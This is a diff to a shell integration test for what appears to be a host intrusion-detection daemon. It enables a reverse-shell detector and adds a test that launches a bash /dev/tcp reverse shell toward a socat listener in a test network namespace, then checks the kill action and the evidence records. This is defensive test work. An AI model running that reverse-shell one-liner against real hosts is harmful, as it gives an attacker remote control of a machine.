@@ -18,6 +18,9 @@
 #     with it; a second scan (after a release) joins the same incident;
 #   - a process finding (exec of a bash copy from /tmp, quarantine-process):
 #     an incident of its own with a snapshot of the process as evidence;
+#   - a reverse shell killed by the kernel before the daemon can read it:
+#     a "snapshot" evidence row of its incident that says it was missed and
+#     why, with the comm, parent, uid and cgroup id from the finding;
 #   - SIGTERM: run.stop after the records, verify passes, nothing unclean;
 #   - SIGKILL in the middle of an exec flood while the CLI writes notes:
 #     verify still passes (chain intact), names the killed daemon's pid and
@@ -47,7 +50,7 @@ detectors:
   synflood: {enabled: false}
   exec_tmp: {enabled: true, severity: medium, action: quarantine-process, ttl: 5m}
   fileless: {enabled: false}
-  reverse_shell: {enabled: false}
+  reverse_shell: {enabled: true, severity: critical, action: kill}
   sensitive_read: {enabled: false}
   ptrace: {enabled: false}
   module_load: {enabled: false}
@@ -196,6 +199,42 @@ check "snapshot of pid $QP: evidence of that incident, with the binary's path an
 	     WHERE v.type = 'snapshot' AND v.target = 'pid:$QP'
 	     AND json_extract(v.body, '$.exe') = '$QTMP'
 	     AND json_extract(v.body, '$.sha256') = '$(sha256sum "$QTMP" | cut -c1-64)'" 1
+
+# ---- a reverse shell, killed in the kernel: the snapshot missed, on record --------
+
+RS_PORT=4455
+check_rc "release host $H1 (the second scan quarantined it)" 0 irc release host "$H1"
+bg ip netns exec "${IRC_NS_PFX}h1" socat -u "TCP4-LISTEN:$RS_PORT,reuseaddr" OPEN:/dev/null
+check "listener on host 1" wait_for 5 in_h 1 sh -c "ss -Htln sport = :$RS_PORT | grep -q ."
+check_rc "reverse shell: killed by the kernel (137)" 137 cg_run rs ip netns exec "$IRC_NS_P" \
+	timeout 8 bash -c "bash -i >& /dev/tcp/$H1/$RS_PORT 0>&1"
+RFIND="FROM events WHERE type = 'finding' AND actor = 'reverse_shell'"
+check "reverse_shell finding, in an incident" wait_for 5 qgt "SELECT count(*) $RFIND AND incident > 0" 0
+RP=$(q "SELECT substr(target, 5) $RFIND ORDER BY seq LIMIT 1")
+RINC=$(q "SELECT incident $RFIND ORDER BY seq LIMIT 1")
+check "a kill action by reverse_shell on pid:$RP" \
+	qeq "SELECT count(*) FROM actions WHERE type = 'kill' AND actor = 'reverse_shell'
+	     AND target = 'pid:$RP' AND incident = ${RINC:-0}" 1
+# The kernel's SIGKILL and the daemon's read race: either the daemon was
+# first (a real snapshot) or the process was gone (the miss on record, with
+# what the finding knew).  Never nothing.  The unit tests hold the miss.
+SNAPQ="FROM evidence WHERE type = 'snapshot' AND target = 'pid:$RP' AND incident = ${RINC:-0}
+	AND actor = 'reverse_shell'"
+check "pid $RP: one snapshot row in incident $RINC" wait_for 3 qeq "SELECT count(*) $SNAPQ" 1
+# snap_ok: the row is a snapshot or a miss as above; else prints it.
+snap_ok() {
+	qeq "SELECT count(*) $SNAPQ AND json_extract(body, '$.pid') = $RP AND
+	     ((json_extract(body, '$.exe') = '$(readlink -f /bin/bash)'
+	       AND length(json_extract(body, '$.sha256')) = 64) OR
+	      (json_extract(body, '$.missed') = 'the process had already exited (killed by the kernel)'
+	       AND json_extract(body, '$.comm') = 'bash' AND json_extract(body, '$.uid') = 0
+	       AND json_extract(body, '$.ppid') > 0 AND json_extract(body, '$.cgroup_id') > 0))" 1 ||
+		{ q "SELECT body $SNAPQ" | cut -c1-600; return 1; }
+}
+check "... taken (exe, sha256), or missed: killed by the kernel, with comm, ppid, uid, cgroup id" \
+	snap_ok
+echo "# reverse shell pid $RP: snapshot $(q "SELECT CASE WHEN json_extract(body, '$.missed') IS NULL
+	THEN 'taken before the kill landed' ELSE 'missed: ' || json_extract(body, '$.missed') END $SNAPQ")"
 
 # ---- a clean stop -----------------------------------------------------------------
 
